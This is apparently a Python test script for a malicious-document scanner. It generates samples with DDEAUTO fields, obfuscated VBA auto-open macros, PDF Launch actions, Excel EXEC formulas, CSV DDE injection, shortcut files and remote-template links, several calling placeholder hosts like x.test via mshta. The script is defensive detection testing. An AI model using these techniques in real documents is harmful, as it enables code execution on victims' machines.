#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Documents with macros, good and bad, made here (tests/data/office.py) and judged by the engine
and the macro trap together.

usage: macros.py MACRO-SCAN SIGNATURES
"""
import base64
import gzip
import pathlib
import struct
import subprocess
import sys
import tempfile
import zlib

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "data"))
import office  # noqa: E402

SAMPLES = []  # name, bytes, verdict, reasons that must be named


def sample(name, data, verdict="clean", *reasons):
    SAMPLES.append((name, data, verdict, reasons))


def docm(modules, extra=None, cache=office.vba_names(), **more):
    project = office.compound(office.vba_project(modules, cache=cache, **more))
    return office.package({"[Content_Types].xml": office.CONTENT_TYPES,
                           "word/document.xml": "<w:document/>", "word/vbaProject.bin": project,
                           **(extra or {})})


def vba():
    bad = {"ThisDocument": 'Private Sub Document_Open()\nRun1\nEnd Sub\n',
           "Module1": 'Sub Run1()\nx = Chr(87) & "Scr" & StrReverse("tpi") & ".Sh" & "ell"\n'
                      'CreateObject(x).Run "calc"\nEnd Sub\n'}
    good = {"ThisWorkbook": "Private Sub Workbook_Open()\nRange(\"A1\") = Date\nEnd Sub\n",
            "Helpers": "Function Clean(s)\nClean = Replace(Trim(s), Chr(160), \" \")\n"
                       "End Function\n" + "' a longer module\n" * 400}
    sample("bad.doc", office.word97(bad), "suspicious", "script-host", "auto-start")
    sample("good.doc", office.word97(good))
    sample("bad.docm", docm(bad), "suspicious", "script-host", "auto-start")
    sample("good.docm", docm(good))
    # macOS: a book that asks for a picture and reads its size, and one that writes a file and runs it.
    asks = ('Sub Workbook_Open()\nd = MacScript("return (path to documents folder) as string")\n'
            'Open d For Binary As #1\nGet #1, 17, b\nClose #1\nEnd Sub\n')
    runs = ('Sub Auto_Open()\nOpen "x" For Binary As #1\n%s #1, , b\nClose #1\n'
            'MacScript("do shell " & "script ""./x""")\nEnd Sub\n')
    sample("asks.xls", office.word97({"ThisWorkbook": asks}))
    sample("runs.docm", docm({"Module1": runs % "Put"}), "suspicious", "mac-shell", "writes-binary-file")
    # What starts and what runs in two documents of one archive is in neither of them.
    halves = {"a.doc": office.word97({"ThisDocument": bad["ThisDocument"]}),
              "b.doc": office.word97({"Module1": 'Sub Run1()\nShell "x"\nEnd Sub\n'})}
    sample("halves.zip", office.package(halves))
    sample("bad.zip", office.package({"x/good.docm": docm(good), "x/bad.docm": docm(bad)}),
           "suspicious", "script-host")


def replaced():
    """The compiled form has other names than the source."""
    names = ("Module1", "AutoOpen", "CreateObject", "objShell", "Run")
    code = 'Sub AutoOpen()\nSet objShell = CreateObject("A.B")\nobjShell.Run 1\nEnd Sub\n'
    other = "Sub Hello()\nMsgBox \"An honest line\"\nEnd Sub\n"
    cache = office.vba_names(*names)
    sample("replaced.docm", docm({"Module1": other}, cache=cache), "suspicious", "source-replaced",
           "compiled-runs")
    sample("emptied.docm", docm({"Module1": ""}, cache=cache), "suspicious", "source-replaced")
    sample("same.docm", docm({"Module1": code}, cache=cache))
    # The code is gone and its names stayed: somebody emptied the modules, or a program against viruses.
    for what, lines in ("no-lines", ()), ("blank-lines", (0, 0)):
        sample(f"{what}.docm", docm({"Module1": ""}, cache=cache, compiled=office.vba_lines(*lines)))
    sample("other-lines.docm", docm({"Module1": ""}, cache=cache, compiled=office.vba_lines() + office.vba_lines(
        0, 2)), "suspicious", "source-replaced")
    # Names stay for some time when code goes; those of harmless code prove nothing.
    sample("older.docm", docm({"Module1": other + "Sub Fill()\nRange(1).Value = 2\nEnd Sub\n"},
                              cache=office.vba_names("Hello", "MsgBox", "Fill", "Range", "Value",
                                                     "CreateObject", "Shell")))
    sample("harmless.docm", docm({"Module1": ""}, cache=office.vba_names("Total", "Range", "Rate")))
    with gzip.open("/usr/share/doc/libexcel-writer-xlsx-perl/examples/vbaProject.bin.gz") as real:
        sample("real.bin", real.read())


def actions():
    """ISO 32000-1 12.6.4.5 and 12.6.4.16."""
    def pdf(action):
        return (b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<<" + action + b">>>>endobj\n"
                b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
    sample("launch.pdf", pdf(b"/S/Launch/Win<</F(cmd.exe)/P(/c calc.exe)>>"), "suspicious",
           "pdf-runs-program")
    sample("escaped.pdf", pdf(b"/S/L#61unch/Win<</F(cmd.exe)>>"), "suspicious", "pdf-runs-program")
    for name, text in (("octal", rb"(\143\155\144.exe)"), ("hex", b"<636d642e657865>"),
                       ("utf16", b"<feff" + "cmd.exe".encode("utf-16-be").hex().encode() + b">")):
        sample(f"launch-{name}.pdf", pdf(b"/Win<</F" + text + b">>/S/Launch"), "suspicious",
               "pdf-runs-program")
    sample("launch-far.pdf", pdf(b"/S/Launch/Win 5 0 R") + b"5 0 obj<</F 6 0 R>>endobj\n"
           b"6 0 obj<</X(" + b"x" * 5000 + b")/F(cmd.exe)>>endobj\n", "suspicious", "pdf-runs-program")
    sample("script-octal.pdf", pdf(rb"/S/JavaScript/JS(this.\145xportDataObject({nL\
aunch:2});)"),
           "suspicious", "pdf-runs-program")
    sample("script.pdf", pdf(b"/S/JavaScript/JS(this.exportDataObject({cName:'a', nLaunch:2});)"),
           "suspicious", "pdf-runs-program")
    for name, action, head, body in (
            ("stream.pdf", b"/S/JavaScript/JS 5 0 R", b"<</Filter/FlateDecode/Length %d>>",
             b"this.exportDataObject({nLaunch: 2});"),
            ("wide.pdf", b"/S/JavaScript/JS 5 0 R", b"<</Filter/FlateDecode/Length %d>>",
             b"\xfe\xff" + "this.exportDataObject({nLaunch: 2});".encode("utf-16-be")),
            ("packed.pdf", b"/S/GoTo", b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>",
             b"9 0 <</S/Launch/Win<</F(cmd.exe)/P(/c calc.exe)>>>>")):
        coded = zlib.compress(body)
        sample(name, pdf(action) + b"5 0 obj" + head % len(coded) + b"stream\n"
               + coded + b"\nendstream endobj\n", "suspicious", "pdf-runs-program")
    sample("print.pdf", pdf(b"/S/JavaScript/JS(this.print({bUI: true});)"))
    sample("other.pdf", pdf(b"/S/Launch/F(chapter-2.pdf)"))


def drawings():
    """Word writes a zip with each drawing (o:gfxdata), and into each RTF (themedata)."""
    zipped = office.package({"a.xml": "<a/>" * 99, "b.xml": "<b/>"})
    coded = base64.b64encode(zipped).decode()
    shape = f'<v:shape xmlns:v="v" xmlns:o="o" o:gfxdata="{coded}"/>'
    text, call = "<p>The only = one to download, in superscript.</p>", "URL.createObjectURL(d)"
    own = relationship("attachedTemplate", "file:///C:\\Users\\a\\letter.dotx")
    sample("shape.docx", docx(shape + text, rels=own))
    sample("shape.html", f'<html xmlns:script="s"><script:a b="c">{shape}{text}</script:a></html>'.encode())
    sample("theme.rtf", b"{\\rtf1{\\*\\themedata " + zipped.hex().encode() + b"} download this }")
    for name, page in (("script", f"<html><script>d='{coded}';{call}</script>"),
                       ("prefix", f"<?xml version='1.0'?><a><h:ScripT xmlns:h='h'>d='{coded}';{call}</h:ScripT></a>"),
                       ("handler", f"<svg xmlns='s'><g id='{coded}' onLoad = '{call}'/></svg>"),
                       ("link", f"<html><i id='{coded}'><a href='JavaScript:{call}'>a</a>"),
                       ("inner", f"<html><i id='{coded}'><iframe srcdoc='&lt;script&gt;{call}'>"),
                       ("slash", f"<svg/oncut={call}><i id='{coded}'/></svg>"),
                       ("comment", f"<!-- a\nd='{coded}';{call}"),
                       ("alone", f"var d='{coded}';{call}")):
        sample(f"{name}.html", page.encode(), "suspicious", "file-in-script", "page-saves-file")


def run(*codes):
    """Runs of a field code, one w:instrText each."""
    mark = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    body = "".join(code if code.startswith("<") else
                   f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'
                   for code in codes)
    return mark % "begin" + body + mark % "separate" + "<w:t>shown</w:t>" + mark % "end"


def docx(body="", rels="", more=None):
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    return office.package({
        "[Content_Types].xml": office.CONTENT_TYPES,
        "word/document.xml": f'<?xml version="1.0"?><w:document xmlns:w="{w}"><w:body><w:p>'
                             f"{body}</w:p></w:body></w:document>",
        "word/_rels/settings.xml.rels": f'<Relationships xmlns="{package}">{rels}</Relationships>',
        **(more or {})})


def relationship(kind, target, mode="External"):
    office_kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + kind
    return f'<Relationship Id="r1" Type="{office_kind}" Target="{target}" TargetMode="{mode}"/>'


def fields():
    command = r'c:\\windows\\system32\\cmd.exe "/k calc"'
    sample("dde.docx", docx(run(" DDEAUTO " + command)), "suspicious", "dde-runs-program")
    sample("split.docx", docx(run("DD", "EAU", "TO c:\\win", "dows\\cm", "d.e", "xe")),
           "suspicious", "dde-runs-program")
    sample("quote.docx", docx(run("DDE", run("QUOTE 65 85 84 79"), " ", run("QUOTE 99 109 100"),
                                  ".exe")), "suspicious", "dde-runs-program")
    sample("set.docx", docx(run("SET c &quot;powershell&quot;") + run("DDEAUTO ", run("REF c"))),
           "suspicious", "dde-runs-program")
    sample("simple.docx", docx('<w:fldSimple w:instr="DDE mshta http://x.test/a"/>'), "suspicious",
           "dde-runs-program")
    utf16 = docx(more={"word/footnotes.xml": (
        '<?xml version="1.0" encoding="UTF-16"?><w:footnotes xmlns:w="w">' +
        run("DDEAUTO cmd") + "</w:footnotes>").encode("utf-16")})
    sample("utf16.docx", utf16, "suspicious", "dde-runs-program")
    sample("entities.docx", docx(run("&#68;D&#x45; cm&#100;")), "suspicious", "dde-runs-program")
    # What honest documents have: page numbers, a table of contents, a table from a workbook.
    sample("fields.docx", docx(run(" PAGE ") + run(' TOC \\o "1-3" ') +
                               run(' HYPERLINK "https://example.com/cmd.exe" ')))
    sample("excel-link.docx", docx(run(' DDEAUTO Excel.Sheet.8 "C:\\data\\book.xls" "R1C1" ')))
    sample("talk.docx", docx("<w:t>DDEAUTO cmd.exe is an old trick</w:t>"))


def links():
    sample("template.docx", docx(rels=relationship("attachedTemplate", "https://x.test/a.dotm")),
           "suspicious", "template-from-web")
    sample("template-case.docx", docx(rels=relationship("attachedTemplate", "HTTP://x.test/a", "external")),
           "suspicious", "template-from-web")
    sample("object.docx", docx(rels=relationship("oleObject", "mhtml:https://x.test/a!x-usc:b")),
           "suspicious", "object-from-web")
    sample("frame.docx", docx(rels=relationship("frame", "https://x.test/f")), "suspicious",
           "frame-from-web")
    sample("normal.docx", docx(rels=relationship("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")))
    # A file: address names another's place only if it has a host.
    for name, target in ("host", "file://server/f"), ("share", "file:////server/f"), (
            "share-back", "file:///\\\\server\\f"), ("escaped", "file:///%5C%5Cserver/f"), (
            "plain-share", "\\\\server\\f"):
        sample(f"frame-{name}.docx", docx(rels=relationship("frame", target)), "suspicious", "frame-from-web")
    for name, target in ("drive", "file:///C:\\a\\f.htm"), ("local", "file://localhost/Users/a/f.htm"):
        sample(f"frame-{name}.docx", docx(rels=relationship("frame", target)))
    sample("hyper.docx", docx(rels=relationship("hyperlink", "https://x.test/a.dotm")))
    sample("picture.docx", docx(rels=relationship("image", "https://x.test/a.png")))
    sample("inside.docx", docx(rels=relationship("attachedTemplate", "http://x.test/", "Internal")))


def xlsm(cells, names="", state="visible", extra=None, kind="macrosheet"):
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rows = "".join(f'<c r="{ref}"{kind_of}>{inner}</c>' for ref, kind_of, inner in cells)
    return office.package({
        "[Content_Types].xml": office.CONTENT_TYPES,
        "xl/workbook.xml": f'<workbook xmlns="{main}"><sheets><sheet name="a" state="{state}"/>'
                           f"</sheets><definedNames>{names}</definedNames></workbook>",
        f"xl/{kind}s/sheet1.xml": f'<xm:{kind} xmlns:xm="http://schemas.microsoft.com/office/excel/'
                                  f'2006/main" xmlns="{main}"><sheetData><row r="1">{rows}</row>'
                                  f"</sheetData></xm:{kind}>",
        **(extra or {})})


AUTO = '<definedName name="_xlnm.Auto_Open">a!$A$1</definedName>'


def formulas():
    sample("exec.xlsm", xlsm([("A1", "", "<f>EXEC(\"calc\")</f><v>0</v>")], AUTO), "suspicious",
           "exec-formula", "auto-name")
    built = [("A1", "", "<f>FORMULA.FILL(B1&amp;CHAR(88)&amp;B2,C1)</f>"),
             ("B1", ' t="s"', "<v>1</v>"), ("B2", ' t="inlineStr"', "<is><t>EC(\"cmd\")</t></is>")]
    strings = "<sst><si><t>no</t></si><si><r><t>=</t></r><r><t>E</t></r></si></sst>"
    sample("built.xlsm", xlsm(built, AUTO, "veryHidden", {"xl/sharedStrings.xml": strings}),
           "suspicious", "exec-formula", "very-hidden-macro-sheet")
    sample("hidden.xlsm", xlsm(built, AUTO, "hidden", {"xl/sharedStrings.xml": strings}),
           "suspicious", "exec-formula", "hidden-macro-sheet")
    # A sheet of old macros that asks and selects; a plain workbook with names and hidden sheets.
    sample("old-macros.xlsm", xlsm([("A1", "", "<f>SELECT(!$A$1)</f>"), ("A2", "", "<f>RETURN()</f>")]))
    sample("plain.xlsx", xlsm([("A1", "", "<f>SUM(B1:B9)</f>")],
                              '<definedName name="_xlnm.Print_Area">a!$A$1</definedName>',
                              "veryHidden", kind="worksheet"))
    dde = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    sample("dde.xlsx", xlsm([], "", extra={"xl/externalLinks/externalLink1.xml": dde}), "suspicious",
           "dde-runs-program")
    sample("auto.slk", b'ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut;F\r\n'
                       b'C;X1;Y101;K0;EEXEC("calc.exe")\r\nC;X1;Y102;K0;EHALT()\r\nE\r\n',
           "suspicious", "exec-formula", "auto-name")
    sample("split.slk", b'ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X2;Y1;K"powersh"\r\n'
                        b'C;X1;Y1;EEXEC(R1C2&"ell")\r\nE\r\n', "suspicious", "interpreter")
    sample("plain.slk", b'ID;PWXL;N;E\r\nC;Y1;X1;K"total"\r\nC;X2;K12;ESUM(R[1]C:R[9]C)\r\nE\r\n')
    sample("dde.csv", b"name,phone\r\nx,=cmd|'/c calc'!A0\r\n", "suspicious", "dde-runs-program")
    sample("sum.csv", b"a,\"=SUM(1,cmd|'/c calc'!A0)\"\r\n", "suspicious", "dde-runs-program")
    sample("excel.csv", b'a;"=MSEXCEL|\'\\..\\..\\cmd.exe /c calc\'!A1"\r\n', "suspicious",
           "dde-runs-program")
    sample("dde.slk", b"ID;PWXL;N;E\r\nC;Y1;X1;K\"total\"\r\nC;Y2;X1;K0;EMSEXCEL|'a\\cmd.exe /c calc'!A1"
                      b"\r\nE\r\n", "suspicious", "dde-runs-program")
    # A file that stands beside it hides nothing.
    beside = base64.b64encode(b"MZ" + bytes(58) + b"\x40\0\0\0" + b"not in DOS mode " * 8)
    sample("beside.csv", b"a,\"=SUM(1,cmd|'/c calc'!A0)\"\r\nx,\"" + beside + b'"\r\n',
           "suspicious", "dde-runs-program")
    # To be read in one pass: with a look behind each bar it took minutes.
    sample("many-bars.csv", b"a list!\n" + b"|" * 4000000 + b"\n")
    sample("bars.csv", b"name|phone|=sum\r\n=a|b\r\nx,-1|2,see cmd|'/c'!A0\r\n")
    for name, cell in ("plain", "cmd|work!A0"), ("blank", "cmd |'/c calc'!A0"), ("empty", "cmd|'/c calc'!''"):
        sample(f"dde-{name}.csv", f"a,={cell}\r\n".encode(), "suspicious", "dde-runs-program")
    # JavaScript has bars and exclamation marks, and commands too.
    for name, code in (("or", b";-1<i&&(!e[i]||!t(e));i-=1)r.exec(cmd)"), ("not", b"b,-a||!cmd.exe"),
                       ("differs", b";=a|b!=cmd"), ("text", b";-a|'b'!==cmd"), ("index", b",=a[0]|b!cmd")):
        sample(f"{name}.js", b"for(;;" + code + b"\n")
    # As it comes up in bytes that are no list at all.
    sample("bytes.csv", b"@\xd8\x875\xf6\xc6\xbd\xed\x9e\xbbZ\x16n\x8f|\x10\x16\xd8CmD!")
    sample("sums.csv", b"a,=SUM(A1:A2),@me!\r\n")


def workbooks():
    o = office
    at = o.ptg_cell(0, 0)
    auto = o.name_record("", at, built_in=1)
    exec_calc = o.formula_record(0, 0, o.ptg_call(o.EXEC, o.ptg_text("calc.exe")))
    sample("exec.xls", o.workbook97([("m", 1, 0, exec_calc)], auto), "suspicious", "exec-formula",
           "auto-name")
    # The command out of a number, a cell and a string that is cut in the middle.
    built = o.formula_record(0, 0, o.ptg_call(
        o.EXEC, o.ptg_call(o.CHAR, o.ptg_cell(1, 0), fixed=True) + o.ptg_cell(2, 0) +
        o.PTG_CONCAT + o.ptg_cell(3, 0) + o.PTG_CONCAT))
    built += (o.number_record(1, 0, 112.0) + o.text_record(2, 0, "owers") + o.shared_record(3, 0, 1))
    strings = o.shared_strings(["no", "hell -enc AAAA"], 2)
    sample("built.xls", o.workbook97([("m", 1, 2, built)], auto + strings), "suspicious",
           "interpreter", "very-hidden-macro-sheet")
    fill = o.formula_record(0, 0, o.ptg_call(
        o.FORMULA_FILL, o.ptg_text("=EXE") + o.ptg_text('C("cmd")', True) + o.PTG_CONCAT,
        o.ptg_cell(0, 1)))
    sample("fill.xls", o.workbook97([("m", 1, 1, fill)], o.name_record("Auto_Open_1", at)),
           "suspicious", "formula-writes", "exec-formula")
    inside = o.package({"q/" + "exec.xls": o.workbook97([("m", 1, 0, exec_calc)], auto)})
    sample("inside.zip", inside, "suspicious", "exec-formula")
    # Of another workbook: a path begins with 01 and has 03 between its folders; letters may have a 3 in them.
    for name, link, told in (("dde", "cmd\x03/c calc", True), ("dde-wide", "cmd\x03/c cal\u0107", True),
                             ("path", "\1\1Ccmd\3temp\3http://x.test/a.xls", False),
                             ("path-wide", "\1\1Ccmd\3Za\u017c\3cmd.xls", False),
                             ("letters", "dde \uac03cmd.xls", False)):
        is_wide = not link.isascii()
        dde = o.biff(0x1AE, struct.pack("<HHB", 1, len(link), is_wide) + link.encode(
            "utf-16-le" if is_wide else "ascii"))
        sample(f"{name}.xls", o.workbook97([("a", 0, 0, b"")], dde), *(
            ("suspicious", "dde-runs-program") if told else ()))
    sheet = o.text_record(0, 0, 'EXEC("calc")') + o.formula_record(
        1, 0, o.ptg_call(o.SUM, o.ptg_cell(0, 0)))
    sample("plain.xls", o.workbook97([("a", 0, 2, sheet)]))
    sample("old-macros.xls", o.workbook97([("m", 1, 0, o.formula_record(0, 0, o.ptg_call(o.HALT)))]))
    locked = o.biff(0x2F, b"\1\0" + b"\0" * 52)
    sample("locked.xls", o.workbook97([("m", 1, 0, exec_calc)], locked), "encrypted")
    word = "text \x13 DDEAUTO cmd /c calc \x14 x \x15".encode("utf-16-le")
    sample("dde.doc", o.compound({"WordDocument": b"\0" * 1500 + word + b"\0" * 3000}), "suspicious",
           "dde-runs-program")
    package = struct.pack("<IH", 40, 2) + b"a\0C:\\a\\run.vbs\0"
    sample("object.doc", o.compound({"WordDocument": b"\0" * 5000,
                                     "ObjectPool/_1/\x01Ole10Native": package}), "suspicious",
           "program-in-object")


def workbooks12():
    o = office

    def xlsb(sheet, book, more=None):
        rels = ('<Relationships><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/'
                '2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.bin"/></Relationships>')
        return o.package({"[Content_Types].xml": o.CONTENT_TYPES, "xl/workbook.bin": book,
                          "xl/_rels/workbook.bin.rels": rels,
                          "xl/macrosheets/sheet1.bin": sheet, **(more or {})})

    name = o.name12("_xlnm.Auto_Open", o.ptg12_cell(0, 0))
    call = o.ptg_call(o.EXEC, o.ptg12_cell(1, 0) + o.ptg12_text("ell") + o.PTG_CONCAT)
    bad = o.sheet12([(0, o.formula12(0, call)), (1, o.text12(0, "powersh"))])
    sample("exec.xlsb", xlsb(bad, o.book12(2, name)), "suspicious", "exec-formula", "interpreter",
           "auto-name")
    plain = o.sheet12([(0, o.formula12(0, o.ptg_call(o.SUM, o.ptg12_cell(1, 0)))),
                       (1, o.text12(0, "EXEC"))])
    sample("plain.xlsb", xlsb(plain, o.book12(0)))
    link = struct.pack("<H", 1) + o.wide_text("cmd") + o.wide_text("/c calc")
    sample("dde.xlsb", xlsb(plain, o.book12(0), {"xl/externalLinks/l1.bin": o.biff12(360, link)}),
           "suspicious", "dde-runs-program")


def rtf_object(name, data, extra="", noise=""):
    class_name = name.encode() + b"\0"
    head = struct.pack("<III", 0x501, 2, len(class_name)) + class_name
    head += struct.pack("<III", 0, 0, len(data)) + data
    digits = head.hex()
    if noise:
        digits = noise.join(digits[i:i + 8] for i in range(0, len(digits), 8))
    return (r"{\rtf1\ansi text {\object\objemb%s{\*\objclass %s}{\*\objdata %s}{\result{x}}}}"
            % (extra, name, digits)).encode()


def rtf():
    word = office.compound({"WordDocument": b"x" * 100})
    sample("object.rtf", rtf_object("Word.Document.8", word))
    sample("update.rtf", rtf_object("OLE2Link", word, r"\objupdate"), "suspicious", "linked-object")
    sample("noise.rtf", rtf_object("Equation.3", b"x" * 64, noise=r"{\*\junk 0}"), "suspicious",
           "obfuscated-object", "equation-editor")
    sample("lines.rtf", rtf_object("Equation.3", b"x" * 64, noise="\n"))
    package = struct.pack("<H", 2) + b"invoice\0C:\\a\\invoice.exe\0" + b"MZ"
    sample("package.rtf", rtf_object("Package", package), "suspicious", "program-in-object")
    sample("in-field.rtf", rb"{\rtf1{\field{\*\fldinst EMBED " +
           rtf_object("Package", package)[6:-1] + b"}{\\fldrslt x}}}", "suspicious", "program-in-object")
    field = rb"{\rtf1{\field{\*\fldinst {\b DDE}{\i AUTO} {cm\'64} /k}{\fldrslt x}}}"
    sample("dde.rtf", field, "suspicious", "dde-runs-program")
    sample("unicode.rtf", rb"{\rt{\*\fldinst D\u68?E c\u109?d", "suspicious", "dde-runs-program")
    sample("template.rtf", rb"{\rtf1{\*\template http\'3a//x.test/a.dotm}text}", "suspicious",
           "template-from-web")
    sample("plain.rtf", rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\field{\*\fldinst PAGE}{\fldrslt 1}}"
                        rb"{\*\template C:\\Normal.dot}DDEAUTO cmd.exe\par}")


def open_document():
    def odt(event="", code="", name="content.xml"):
        content = ('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:'
                   'office:1.0" xmlns:script="s" xmlns:xlink="x"><office:scripts>'
                   f"<office:event-listeners>{event}</office:event-listeners></office:scripts>"
                   "</office:document-content>")
        return office.package({
            "mimetype": "application/vnd.oasis.opendocument.text", name: content,
            "Basic/Standard/Module1.xml": '<script:module xmlns:script="s" script:language='
                                          f'"StarBasic">{code}</script:module>'})

    event = ('<script:event-listener script:event-name="%s" xlink:href="vnd.sun.star.script:'
             'Standard.Module1.Main?language=Basic&amp;location=document"/>')
    run_it = "Sub Main\nShell(&quot;cal&quot; &amp; &quot;c&quot;)\nEnd Sub\n"
    sample("bad.odt", odt(event % "dom:load", run_it), "suspicious", "event-script", "shell")
    sample("button.odt", odt(event % "dom:click", run_it))
    sample("good.odt", odt(event % "dom:load", "Sub Main\nThisComponent.store()\nEnd Sub\n"))


def slides_and_controls():
    def pptx(action, element="hlinkHover"):
        rels = relationship("hyperlink", "powershell.exe")
        return office.package({
            "[Content_Types].xml": office.CONTENT_TYPES,
            "ppt/presentation.xml": "<p:presentation xmlns:p='p'/>",
            "ppt/slides/slide1.xml": f'<p:sld xmlns:p="p" xmlns:a="a" xmlns:r="r"><p:sp><a:{element} '
                                     f'r:id="r1" action="{action}"/></p:sp></p:sld>',
            "ppt/slides/_rels/slide1.xml.rels": f"<Relationships>{rels}</Relationships>"})

    def control(class_id):
        return docx(more={"word/activeX/activeX1.xml": f'<ax:ocx xmlns:ax="ax" ax:classid="{class_id}" '
                          'ax:persistence="persistPropertyBag"/>'})

    sample("action.pptx", pptx("ppaction://program"), "suspicious", "action-runs-program")
    sample("click.pptx", pptx("PPAction://Program", "hlinkClick"), "suspicious", "action-runs-program")
    sample("next.pptx", pptx("ppaction://hlinkshowjump?jump=nextslide"))
    sample("macro.pptx", pptx("ppaction://macro?name=Next"))
    sample("control.docx", control("{8856F961-340A-11D0-A96B-00C04FD705A2}"), "suspicious",
           "script-control")
    sample("button.docx", control("{D7053240-CE69-11CD-A777-00DD01143C57}"))


def shortcut(target, arguments, is_wide=True, place="", icon="", behind=""):
    """[MS-SHLLINK] 2: a list of one identifier, a place, a name, a path, arguments, an icon, blocks."""
    flags = 1 | (2 if place else 0) | 4 | 8 | 0x20 | (0x40 if icon else 0) | (0x80 if is_wide else 0)
    head = struct.pack("<I16sI", 76, bytes.fromhex("0114020000000000c000000000000046"), flags)
    identifiers = struct.pack("<HH", len(target) + 4, len(target) + 2) + target.encode() + bytes(2)
    info = struct.pack("<I", len(place) + 4) + place.encode() if place else b""
    texts = b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le" if is_wide else "ascii")
                     for text in ("A letter", "..\\a", arguments) + ((icon,) if icon else ()))
    return head.ljust(76, b"\0") + identifiers + info + texts + behind.encode("utf-16-le") + bytes(4)


def shortcuts():
    runs, leads = "shortcut-runs-command", "shortcut-to-program"
    command = "C:\\Windows\\System32\\cmd.exe"
    sample("run.lnk", shortcut(command, "/c start a.dll"), "suspicious", runs)
    sample("run-ansi.lnk", shortcut("C:\\x.exe", "-w hidden PowerShell -enc A", False), "suspicious", runs)
    sample("fetch.lnk", shortcut("mshta.exe", "http://x.test/a.hta"), "suspicious", runs)
    sample("cut.lnk", shortcut(command, "/c a")[:80])
    sample("letter.lnk", shortcut("C:\\Office\\winword.exe", '"C:\\My letters\\a.docx"'))
    sample("padded.lnk", shortcut("C:\\x.exe", " \t\r\n" * 3000 + "powershell -enc A"), "suspicious", runs)
    sample("place.lnk", shortcut("A" * 9000, "a", place=command), "suspicious", runs)
    sample("block.lnk", shortcut("A" * 9000, "a", place="B" * 9000, behind=command), "suspicious", runs)
    sample("icon.lnk", shortcut("C:\\Office\\winword.exe", "a.docx", place="C:\\a.docx", icon=command))
    sample("mark.url", b"\xef\xbb\xbf\r\n[InternetShortcut]\r\nURL=file://192.0.2.1/a/b.exe\r\n",
           "suspicious", leads)
    sample("share.url", b"[InternetShortcut]\r\nURL=\\\\192.0.2.1@80\\a\\b.vbs\r\n", "suspicious", leads)
    sample("file.url", b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,9\r\n[InternetShortcut]\r\n"
           b"url=file://192.0.2.1/a/b.exe\r\n", "suspicious", leads)
    sample("long.url", b"[InternetShortcut]\r\n" + b";\r\n" * 5000 + b"URL=file://192.0.2.1/a/b.exe\r\n",
           "suspicious", leads)
    sample("site.url", b"[InternetShortcut]\r\nURL=https://x.test/a.exe\r\n")
    for name, place, wanted in (("web", "http://192.0.2.1/a", ["suspicious", "library-from-web"]),
                                ("own", "knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}", ["clean"])):
        for kind in "library", "searchConnector":
            sample(f"{name}.{kind}-ms", (f"<?xml version='1.0'?><{kind}Description><simpleLocation><url>{place}"
                                         f"</url></simpleLocation></{kind}Description>").encode(), *wanted)
    for name, program, wanted in (("run", "cmd.exe /c a", ["suspicious", "setting-runs-command"]),
                                  ("show", "control.exe /name Microsoft.Display", ["clean"])):
        sample(name + ".settingcontent-ms", (f"<?xml version='1.0'?><PCSettings><SearchableContent><DeepLink>"
                                             f"%windir%\\system32\\{program}</DeepLink></SearchableContent>"
                                             "</PCSettings>").encode(), *wanted)


def limits():
    """What is too large to be weighed is told, and what was found until then counts."""
    deep = b"{\\rtf1" + b"{" * 1100 + b"}" * 1100
    sample("deep.rtf", deep + b"}", "not-fully-scanned", "macro-rtf")
    sample("deep-bad.rtf", deep + rb"{\*\template http://x.test/a.dotm}}", "suspicious",
           "template-from-web")
    nested = ""
    for _ in range(70):
        nested = run("IF ", nested, " ")
    sample("deep.docx", docx(nested), "not-fully-scanned", "macro-fields")
    module = '<script:module xmlns:script="s">' + "x = y\n" * 800000 + "</script:module>"
    sample("long.odt", office.package({"META-INF/manifest.xml": "<m/>", "Basic/S/M.xml": module}),
           "not-fully-scanned", "macro-text")
    sample("utf32.txt", "\ufeff<p>An honest text</p>".encode("utf-32-le"))
    sample("deep.xml", office.package({"[Content_Types].xml": office.CONTENT_TYPES,
                                       "a.xml": "<document>" + "<p>" * 300}),
           "not-fully-scanned", "macro-xml")


def main():
    program, signatures = sys.argv[1:]
    for make in (vba, replaced, actions, drawings, fields, links, formulas, workbooks, workbooks12, rtf,
                 open_document, slides_and_controls, shortcuts, limits):
        make()
    failed = 0
    with tempfile.TemporaryDirectory(prefix="storehook-macros-") as folder:
        for name, data, _, _ in SAMPLES:
            pathlib.Path(folder, name).write_bytes(data)
        files = [f"{folder}/{name}" for name, *_ in SAMPLES]
        run = subprocess.run([program, signatures, "", *files], check=True, text=True,
                             capture_output=True, timeout=120)
    for line, (name, _, verdict, reasons) in zip(run.stdout.splitlines(), SAMPLES, strict=True):
        _, kind, *told = line.split(" ", 2)
        told = told[0] if told else ""
        if kind != verdict or any(r not in told for r in reasons):
            print(f"{name}: {kind} {told}; expected {verdict} {reasons}")
            failed += 1
    print(f"{len(SAMPLES)} documents, {failed} judged wrongly")
    return failed > 0


if __name__ == "__main__":
    sys.exit(main())
